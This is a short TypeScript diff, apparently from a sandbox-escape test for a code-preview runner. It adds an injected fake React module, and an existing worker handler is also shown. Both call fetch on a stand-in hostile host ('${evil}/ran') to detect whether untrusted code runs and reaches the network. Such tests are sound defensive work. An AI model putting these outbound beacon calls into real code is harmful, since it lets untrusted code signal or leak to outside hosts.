@@ -17,7 +17,9 @@ export async function frameFiles(text: string): Promise<string> {
     `onmessage = ({ ports: [port] }) => { port.postMessage('ran'); fetch('${evil}/ran'); }`,
   ]);
   const file = { name: 'App.tsx', code };
+  const react = `fetch('${evil}/ran').catch(() => {}); export const React = { Component: Object }, jsxRuntime = {};`;
   const messages = [
+    { kind: 'react', script: new Blob([react], { type: 'text/javascript' }) },
     {
       kind: 'run',
       run: 1,
